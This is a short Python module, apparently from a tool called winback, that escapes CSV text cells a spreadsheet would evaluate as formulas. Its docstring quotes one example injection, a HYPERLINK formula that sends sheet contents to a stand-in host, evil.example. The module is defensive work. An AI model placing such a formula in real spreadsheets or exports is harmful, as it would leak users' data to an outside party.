"""CSV for people: a text cell a spreadsheet would read as a formula is written as text.

Excel, LibreOffice and Google Sheets evaluate a cell that begins with ``=``,
``+``, ``-`` or ``@`` (some also after a leading tab or CR), so a client named
``=HYPERLINK("http://evil.example/?"&A1,"click")`` would become a live link
that sends the sheet away. Every CSV winback writes for people goes through
:func:`dict_writer`, which puts a ``'`` before such a text cell; columns named
numeric (revenue, counts) are left as they are, so ``-12.50`` stays a number.
A phone such as ``+79161234567`` is text and gets the ``'`` too (which also
keeps a spreadsheet from turning it into ``79161234567``).

The importer's rejects file does not use it: it is a copy of the input rows, to
be fixed and imported again.
"""

from __future__ import annotations

import csv
from collections.abc import Callable, Collection, Mapping, Sequence
from typing import Any, TextIO

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """``'`` before a str that a spreadsheet would read as a formula; else unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def dict_writer(
    out: TextIO, fields: Sequence[str], *, numeric: Collection[str] = ()
) -> Callable[[Mapping[str, Any]], None]:
    """Write the header; return ``write(record)`` for the rows."""
    writer = csv.DictWriter(out, fieldnames=fields, lineterminator="\n")
    writer.writeheader()

    def write(record: Mapping[str, Any]) -> None:
        writer.writerow({k: v if k in numeric else safe_cell(v) for k, v in record.items()})

    return write
